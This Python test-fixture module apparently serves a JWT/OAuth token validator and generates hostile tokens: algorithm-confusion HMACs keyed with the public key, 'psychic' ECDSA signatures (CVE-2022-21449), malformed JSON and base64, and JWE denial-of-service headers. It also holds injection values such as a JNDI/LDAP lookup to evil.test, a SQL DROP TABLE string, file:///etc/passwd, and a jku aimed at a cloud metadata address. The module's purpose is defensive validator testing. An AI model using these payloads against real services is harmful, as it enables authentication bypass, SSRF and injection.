"""Hostile tokens beyond those of `tests/unit/hostile_jwts.py`: other keys' tricks, other forms, and odd bytes (T33)."""

import hashlib
import hmac
import json
from base64 import b64encode, urlsafe_b64decode, urlsafe_b64encode
from collections.abc import Iterator
from typing import Any, cast

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from doorward.oauth.jwt import SigningKey, generate_signing_key
from tests.unit.hostile_jwts import CLAIMS, HEADER, HOSTILE, ISSUER, KEY, KEYS, NOW, RESOURCE, encode, sign
from tests.unit.hostile_jwts import with_claims as claiming
from tests.unit.hostile_jwts import with_header as heading

PUBLIC = cast("ec.EllipticCurvePublicKey", KEYS[KEY.kid].key.get_op_key("verify"))
ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
FIELD = 0xFFFFFFFF00000001000000000000000000000000FFFFFFFFFFFFFFFFFFFFFFFF
_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
GOOD = sign()
HEAD, PAYLOAD, SIGNATURE = GOOD.split(".")


def _dump(value: Any, **options: Any) -> bytes:
    return json.dumps(value, **options).encode()


def _splice(value: dict[str, Any], raw: str) -> bytes:
    """An object with one more member, written out."""
    return f"{json.dumps(value)[:-1]}, {raw}}}".encode()


def _assemble(header: bytes | dict[str, Any], payload: bytes | dict[str, Any], signature: bytes) -> str:
    return f"{encode(header)}.{encode(payload)}.{encode(signature)}"


def _mac(alg: str, secret: bytes, **header: Any) -> str:
    signed = f"{encode({**HEADER, 'alg': alg, **header})}.{PAYLOAD}"
    return f"{signed}.{encode(hmac.new(secret, signed.encode(), hashlib.sha256).digest())}"


def _secrets_that_are_public() -> Iterator[tuple[str, str]]:
    numbers = PUBLIC.public_numbers()
    x, y = (number.to_bytes(32, "big") for number in (numbers.x, numbers.y))
    forms = {
        "DER": PUBLIC.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "PEM without its last line break": PUBLIC.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)[:-1],
        "uncompressed point": PUBLIC.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint),
        "compressed point": PUBLIC.public_bytes(Encoding.X962, PublicFormat.CompressedPoint),
        "raw coordinates": x + y,
        "first coordinate": x,
        "encoded coordinate": urlsafe_b64encode(x).rstrip(b"="),
        "compact JWK": _dump(KEY.public_jwk(), separators=(",", ":")),
        "JWK set": _dump({"keys": [KEY.public_jwk()]}),
        "its own name": KEY.kid.encode(),
        "the issuer": ISSUER.encode(),
    }
    for form, secret in forms.items():
        yield f"HS256 with the public key as {form}", _mac("HS256", secret)
    yield "HMAC under the name ES256", _mac("ES256", forms["DER"])
    yield "HS256 with a key of zeros and no kid's file", _mac("HS256", b"\x00", kid="/dev/null")


def _other_keys() -> Iterator[tuple[str, str]]:
    signed = f"{HEAD}.{PAYLOAD}"
    for curve in (ec.SECP256K1(), ec.SECP384R1(), ec.SECP521R1(), ec.BrainpoolP256R1()):
        yield f"signed on {curve.name}", f"{signed}.{encode(_sign_on(curve, signed))}"
    digest = hashlib.sha256(b"a seed of nobody's").digest()
    edwards = ed25519.Ed25519PrivateKey.from_private_bytes(digest)
    yield "signed by Ed25519, said to be ES256", f"{signed}.{encode(edwards.sign(signed.encode()))}"
    signed = f"{encode(HEADER | {'alg': 'EdDSA'})}.{PAYLOAD}"
    yield "signed by Ed25519, said so", f"{signed}.{encode(edwards.sign(signed.encode()))}"
    private = rsa.generate_private_key(65537, 2048)
    for alg, how in (
        ("RS256", padding.PKCS1v15()),
        ("PS256", padding.PSS(padding.MGF1(hashes.SHA256()), 32)),
        ("ES256", padding.PKCS1v15()),
    ):
        signed = f"{encode(HEADER | {'alg': alg})}.{PAYLOAD}"
        made = private.sign(signed.encode(), how, hashes.SHA256())
        yield f"signed by RSA, said to be {alg}", f"{signed}.{encode(made)}"
    own = cast("ec.EllipticCurvePrivateKey", KEY.key.get_op_key("sign"))
    for name, hashed in (("SHA-1", hashes.SHA1()), ("SHA-384", hashes.SHA384()), ("SHA-512", hashes.SHA512())):  # noqa: S303
        r, s = decode_dss_signature(own.sign(f"{HEAD}.{PAYLOAD}".encode(), ec.ECDSA(hashed)))
        yield f"our key over {name}", f"{HEAD}.{PAYLOAD}.{encode(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"
    for alg in ("EdDSA", "PS256"):
        stranger = generate_signing_key(alg)
        renamed = SigningKey(KEY.kid, alg, stranger.key)
        yield f"a stranger's {alg} key under our kid", _sign_as(renamed)
    yield "a stranger's key with its public half in x5c", heading(x5c=[b64encode(b"0\x82").decode()])


def _sign_on(curve: ec.EllipticCurve, signed: str) -> bytes:
    size = (curve.key_size + 7) // 8
    r, s = decode_dss_signature(ec.generate_private_key(curve).sign(signed.encode(), ec.ECDSA(hashes.SHA256())))
    return r.to_bytes(size, "big") + s.to_bytes(size, "big")


def _sign_as(key: SigningKey) -> str:
    signed = f"{encode(HEADER | {'alg': key.alg})}.{PAYLOAD}".encode()
    private = key.key.get_op_key("sign")
    if isinstance(private, ed25519.Ed25519PrivateKey):
        return f"{signed.decode()}.{encode(private.sign(signed))}"
    made = cast("rsa.RSAPrivateKey", private).sign(
        signed, padding.PSS(padding.MGF1(hashes.SHA256()), 32), hashes.SHA256()
    )
    return f"{signed.decode()}.{encode(made)}"


def _psychic_signatures() -> Iterator[tuple[str, str]]:
    """Numbers that a careless reckoning of ECDSA takes for a signature of anything (CVE-2022-21449 and its kin)."""
    r, s = (int.from_bytes(part, "big") for part in _halves())
    pairs = {
        "r is 0": (0, s),
        "s is 0": (r, 0),
        "r and s are 1": (1, 1),
        "r and s are the order": (ORDER, ORDER),
        "r is the order": (ORDER, s),
        "s is the order": (r, ORDER),
        "r is 0, s is the order": (0, ORDER),
        "r and s are the order less one": (ORDER - 1, ORDER - 1),
        "r and s are the field's size": (FIELD, FIELD),
        "r and s are as large as can be": (2**256 - 1, 2**256 - 1),
        "r and s are exchanged": (s, r),
        "r is negative": (ORDER - r, s),
    }
    for name, (left, right) in pairs.items():
        yield f"signature: {name}", f"{HEAD}.{PAYLOAD}.{encode(left.to_bytes(32, 'big') + right.to_bytes(32, 'big'))}"
    if r + ORDER < 2**256:
        yield (
            "signature: r plus the order",
            f"{HEAD}.{PAYLOAD}.{encode((r + ORDER).to_bytes(32, 'big') + _halves()[1])}",
        )
    raw = b"".join(_halves())
    for name, made in (
        ("a zero in front", b"\x00" + raw),
        ("numbers of 33 bytes", b"\x00" + raw[:32] + b"\x00" + raw[32:]),
        ("a byte missing", raw[:-1]),
        ("one number only", raw[:32]),
        ("twice", raw + raw),
        ("one byte", b"\x00"),
        ("in hexadecimal", raw.hex().encode()),
    ):
        yield f"signature: {name}", f"{HEAD}.{PAYLOAD}.{encode(made)}"
    # The last letter stands for two bits of six: the letter after it stands for the same two.
    second = SIGNATURE[:-1] + _ALPHABET[_ALPHABET.index(SIGNATURE[-1]) + 1]
    assert _decode(second) == _decode(SIGNATURE)
    yield "signature: in its second spelling", f"{HEAD}.{PAYLOAD}.{second}"


def _halves() -> tuple[bytes, bytes]:
    raw = _decode(SIGNATURE)
    return raw[:32], raw[32:]


def _decode(text: str) -> bytes:
    return urlsafe_b64decode(f"{text}==")


def _other_forms() -> Iterator[tuple[str, str]]:
    flattened = {"protected": HEAD, "payload": PAYLOAD, "signature": SIGNATURE}
    general = {"payload": PAYLOAD, "signatures": [{"protected": HEAD, "signature": SIGNATURE}]}
    yield "general JSON serialization", json.dumps(general)
    yield "flattened JSON serialization in base64url", encode(flattened)
    yield "flattened JSON serialization as the payload", sign(claims=flattened)
    yield "a token within a token", sign(claims=GOOD.encode())
    yield "a token within a token, said so", sign(HEADER | {"cty": "JWT"}, GOOD.encode())
    yield "a token within quotes", f'"{GOOD}"'
    yield "two tokens with a comma", f"{GOOD},{GOOD}"
    yield "two tokens with a space", f"{GOOD} {GOOD}"
    yield "Bearer twice", f"Bearer {GOOD}"
    yield "detached payload", f"{HEAD}..{SIGNATURE}"
    clear = HEADER | {"b64": False, "crit": ["b64"]}
    yield "payload in clear", f"{encode(clear)}.sub.{sign(clear).rpartition('.')[2]}"
    yield "payload in clear, detached", f"{encode(clear)}..{sign(clear).rpartition('.')[2]}"
    jwe = {"alg": "dir", "enc": "A256GCM", "typ": "at+jwt", "kid": KEY.kid}
    yield "JWE, direct", ".".join((encode(jwe), "", encode(bytes(12)), PAYLOAD, encode(bytes(16))))
    wrapped = jwe | {"alg": "ECDH-ES+A256KW", "epk": KEY.public_jwk()}
    yield "JWE to our own key", ".".join((encode(wrapped), encode(bytes(40)), encode(bytes(12)), PAYLOAD, SIGNATURE))
    bomb = jwe | {"zip": "DEF"}
    yield "JWE, compressed", ".".join((encode(bomb), "", encode(bytes(12)), encode(bytes(4000)), encode(bytes(16))))
    slow = jwe | {"alg": "PBES2-HS256+A128KW", "p2s": "AA", "p2c": 2**31 - 1}
    yield "JWE with a costly password", ".".join((encode(slow), encode(bytes(24)), "AA", PAYLOAD, "AA"))
    yield "SD-JWT without disclosures", f"{GOOD}~"
    yield "SD-JWT with one", f"{GOOD}~{encode(b'[1]')}~"
    yield "CWT", urlsafe_b64encode(b"\xd2\x84\x43\xa1\x01\x26\xa0\x58" + bytes(80)).decode()
    yield "PASETO", "v4.public.eyJzdWIiOiJ1c2VyLTEifQ" + "A" * 86
    yield "opaque", "mcp_0123456789abcdef0123456789abcdef"


def _odd_text() -> Iterator[tuple[str, str]]:
    yield "two members alg, the good one last", sign(b'{"alg":"none",' + _dump(HEADER)[1:])
    yield "two members alg, the good one first", sign(_splice(HEADER, '"alg": "none"'))
    yield "two members kid", sign(_splice(HEADER, f'"kid": "{KEY.kid}"'))
    yield "two members sub", sign(claims=_splice(CLAIMS, '"sub": "admin"'))
    yield "two members aud", sign(claims=_splice(CLAIMS, f'"aud": "{RESOURCE}"'))
    yield "two members exp", sign(claims=_splice(CLAIMS | {"exp": 1}, f'"exp": {NOW + 900}'))
    yield "two members, one escaped", sign(claims=_splice(CLAIMS, '"s\\u0075b": "admin"'))
    yield "two members further in", sign(claims=_splice(CLAIMS, '"act": {"sub": "a", "sub": "b"}'))
    for name, raw in (
        ("a lone surrogate in a value", '"x": "\\ud800"'),
        ("a lone surrogate in a name", '"\\udfff": 1'),
        ("NaN", '"x": NaN'),
        ("Infinity", '"x": [-Infinity]'),
        ("a number of 5,000 digits", f'"x": {"9" * 5000}'),
        ("a comment", '/* */ "x": 1'),
        ("a comma too many", '"x": 1,'),
        ("a single quote", "'x': 1"),
        ("a raw line break in a text", '"x": "\n"'),
        ("a raw NUL in a text", '"x": "\x00"'),
        ("hexadecimal", '"x": 0x10'),
        ("a zero in front", '"x": 01'),
        ("a bare word", '"x": undefined'),
        ("an unknown escape", '"x": "\\x41"'),
    ):
        yield f"claims with {name}", sign(claims=_splice(CLAIMS, raw))
    for name, around in (
        ("a second document", b"%s{}"),
        ("a NUL after them", b"%s\x00"),
        ("a byte order mark", b"\xef\xbb\xbf%s"),
        ("garbage after them", b"%s]"),
        ("a list around them", b"[%s]"),
        ("a bracket missing", b"{%s"),
    ):
        yield f"claims with {name}", sign(claims=around % _dump(CLAIMS))
        yield f"header with {name}", sign(around % _dump(HEADER))
    for encoding in ("utf-16", "utf-16-le", "utf-32", "cp037"):
        yield f"claims in {encoding}", sign(claims=json.dumps(CLAIMS).encode(encoding))
        yield f"header in {encoding}", sign(json.dumps(HEADER).encode(encoding))
    yield "claims in overlong UTF-8", sign(claims=_dump(CLAIMS).replace(b"user-1", b"\xc0\xafroot"))
    yield "claims with a surrogate in UTF-8", sign(claims=_dump(CLAIMS).replace(b"user-1", b"\xed\xa0\x80"))
    yield "claims nested 2,500 deep", sign(claims=_splice(CLAIMS, f'"x": {"[" * 1500}{"]" * 1500}'))
    for name, value in (("null", b"null"), ("a text", b'"sub"'), ("a number", b"1"), ("true", b"true")):
        yield f"claims are {name}", sign(claims=value)
        yield f"header is {name}", sign(value)


def _odd_base64() -> Iterator[tuple[str, str]]:
    yield "padding in each part", ".".join(f"{part}=" for part in (HEAD, PAYLOAD, SIGNATURE))
    yield "padding at the end", f"{GOOD}=="
    yield "a line break in a part", f"{HEAD}.{PAYLOAD[:9]}\n{PAYLOAD[9:]}.{SIGNATURE}"
    yield "a tab in a part", f"{HEAD}.{PAYLOAD[:9]}\t{PAYLOAD[9:]}.{SIGNATURE}"
    yield "a percent escape", GOOD.replace(".", "%2E")
    yield "a full-width dot", GOOD.replace(".", "\uff0e", 1)
    yield "a soft hyphen", f"{HEAD}.{PAYLOAD}.{SIGNATURE}\u00ad"
    yield "a zero-width space", f"\u200b{GOOD}"
    yield "a dot in front", f".{GOOD}"
    yield "a dot at the end", f"{GOOD}."
    yield "1,000 dots", "." * 1000
    yield "dots up to the limit", "a." * 4000
    yield "letters up to the limit", "A" * 8192
    yield "one letter over the limit", "A" * 8193
    yield "another signature's letter case", f"{HEAD}.{PAYLOAD}.{SIGNATURE.swapcase()}"
    yield "another header's letter case", f"{HEAD.swapcase()}.{PAYLOAD}.{SIGNATURE}"
    yield "header and payload exchanged", f"{PAYLOAD}.{HEAD}.{SIGNATURE}"


_KIDS: dict[str, Any] = {
    "a device": "/dev/null",
    "a file": "file:///etc/passwd",
    "an address": "https://evil.test/jwks#1",
    "ours with a space": f"{KEY.kid} ",
    "ours behind a space": f" {KEY.kid}",
    "ours with a line break": f"{KEY.kid}\n",
    "ours with a NUL": f"{KEY.kid}\x00",
    "ours in other letter case": KEY.kid.swapcase(),
    "ours cut short": KEY.kid[:-1],
    "ours in a list": [KEY.kid],
    "ours in an object": {"kid": KEY.kid},
    "true": True,
    "zero": 0,
    "a prototype": "__proto__",
    "a constructor": "constructor",
    "an asterisk": "*",
    "a percent sign": "%",
    "an expression": "${jndi:ldap://evil.test/a}",
    "SQL": "x'; DROP TABLE keys; --",
    "a mark that turns text around": "\u202e",
    "of 6,000 letters": "kid" * 2000,
}
_AUDIENCES: list[Any] = [
    "*",
    ["*"],
    "https://api.test/*",
    "https://*.test/mcp",
    "https://api.test/mcp%2F",
    "https://api.test/%6dcp",
    "https://api.test/./mcp",
    "https://api.test/x/../mcp",
    "https://api.test//mcp",
    "https://api.test/mcp//",
    "https://api.test./mcp",
    "https://api.test/mcp ",
    " https://api.test/mcp",
    "https://api.test/mcp\x00",
    "https://api.test/mcp https://other.test/mcp",
    "https://api.test/mcp,https://other.test/mcp",
    "https://api.test\\mcp",
    "https:api.test/mcp",
    "//api.test/mcp",
    "https://\u0430pi.test/mcp",
    "https://api\u3002test/mcp",
    "https://api.test/mc\u03c1",
    "https://api.test@evil.test/mcp",
    "https://api.test/mcp?",
    "https://api.test/mcp;x",
    "wss://api.test/mcp",
    "urn:api.test",
    "tools",
    "client-1",
    ISSUER,
    True,
    1,
    1.5,
    [[RESOURCE]],
    {"aud": RESOURCE},
    {RESOURCE: True},
    [{"value": RESOURCE}],
    ["", None, 1, True, {}, []],
]
_VALUES: dict[str, list[Any]] = {
    "iss": [
        f" {ISSUER}",
        f"{ISSUER} ",
        f"{ISSUER}\x00",
        f"{ISSUER}/.",
        f"{ISSUER}#x",
        f"{ISSUER}?",
        f"{ISSUER}:443",
        f"{ISSUER}/tenant",
        "http://auth.test",
        "https://Auth.test",
        "https://auth.test.",
        "https://\u0430uth.test",
        "https://auth\u3002test",
        "https://auth.test@evil.test",
        "auth.test",
        "",
        True,
        1,
        {"iss": ISSUER},
    ],
    "exp": [
        NOW - 10**9,
        -(10**18),
        10**18,
        10**30,
        1e12,
        float("-inf"),
        -0.0,
        False,
        "",
        f"{NOW + 900}.0",
        "never",
        {"$gt": 0},
        [],
        "2030-01-01T00:00:00Z",
        (NOW + 900) * 1000,
    ],
    "nbf": [NOW + 3600, 10**18, (NOW - 1) * 1000, "", [], {}, False, float("inf"), -1],
    "iat": [NOW + 3600, 10**18, (NOW - 1) * 1000, "", [], {}, False, float("inf"), -1],
    "sub": [False, 0, 1.5, {}, {"sub": "admin"}, []],
    "client_id": [False, 0, 1.5, {}, {"id": "app"}, []],
    "jti": [False, 0, {}, []],
    "scope": [
        ["tools:write"],
        {"tools": "write"},
        True,
        1.5,
        'tools:read"',
        "tools:read\\",
        "tools:read\ntools:write",
        "tools:read\ttools:write",
        "tools:read\x00",
        "tools:re\u0430d",
        "x" * 129,
        " ".join(f"s{number}" for number in range(101)),
    ],
    "cnf": [
        {"jkt": KEY.kid},
        {"jkt": ""},
        {"jkt": None},
        {"jkt": [KEY.kid]},
        {"x5t#S256": "AA"},
        {"jwk": KEY.public_jwk()},
        {"kid": KEY.kid},
        {"jku": "https://evil.test/jwks"},
        {},
        [],
        "",
        "jkt",
        0,
        False,
    ],
}
_TYPES = ["at", "at+jwt ", " at+jwt", "at+jwt\x00", "at-jwt", "at+JWS", "application/jwt", "logout+jwt", "secevent+jwt"]
_TYPES += ["id_token", "JWS", "JOSE", "dpop+jwt", "entity-statement+jwt", "token-introspection+jwt", "at+jwt,JWT"]
_MEMBERS: dict[str, Any] = {
    "jku with our own address": ("jku", f"{ISSUER}/.well-known/jwks.json"),
    "jku inside": ("jku", "http://169.254.169.254/latest/meta-data"),
    "jku on disk": ("jku", "file:///etc/passwd"),
    "x5u inside": ("x5u", "http://127.0.0.1:1/cert"),
    "x5t#S256": ("x5t#S256", "A" * 43),
    "crit of a member that is not there": ("crit", ["exp", "bogus"]),
    "crit as text": ("crit", "b64"),
    "crit as null": ("crit", None),
    "crit of itself": ("crit", ["crit"]),
    "b64 true": ("b64", True),
    "alg again in capitals": ("ALG", "none"),
    "kid again in capitals": ("Kid", "x"),
    "iss in the header": ("iss", ISSUER),
    "a member without a name": ("", ""),
    "a prototype": ("__proto__", {"alg": "none"}),
    "url": ("url", RESOURCE),
    "epk": ("epk", {}),
}


def _odd_members() -> Iterator[tuple[str, str]]:
    for name, kid in _KIDS.items():
        yield f"kid: {name}", heading(kid=kid)
    for typ in [*_TYPES, None, True, ["at+jwt"], {"typ": "at+jwt"}]:
        yield f"typ {typ!r}", heading(typ=typ)
    for name, (member, value) in _MEMBERS.items():
        yield f"header member {name}", heading(**{member: value})
    for alg in [
        "NoNe",
        "none ",
        "HS256",
        "ES512",
        "RSA-OAEP",
        "dir",
        "Ed25519",
        "ES256\x00",
        "\uff25\uff33256",
        True,
        {},
        [],
    ]:
        yield f"alg {alg!r} over a true signature", heading(alg=alg)
    for value in _AUDIENCES:
        yield f"aud {value!r}", claiming(aud=value)
    for claim, values in _VALUES.items():
        for value in values:
            shown = str(value).replace(KEY.kid, "KID")[:40]
            yield f"{claim} {shown!r} {type(value).__name__}", claiming(**{claim: value})


def build() -> dict[str, str]:
    """Every hostile token there is, by what is wrong with it."""
    more = [
        *_secrets_that_are_public(),
        *_other_keys(),
        *_psychic_signatures(),
        *_other_forms(),
        *_odd_text(),
        *_odd_base64(),
        *_odd_members(),
    ]
    names = [name for name, _ in more]
    assert len(set(names)) == len(names), [name for name in names if names.count(name) > 1]
    return {**HOSTILE, **{name: token for name, token in more if token not in HOSTILE.values()}}


TOKENS = build()
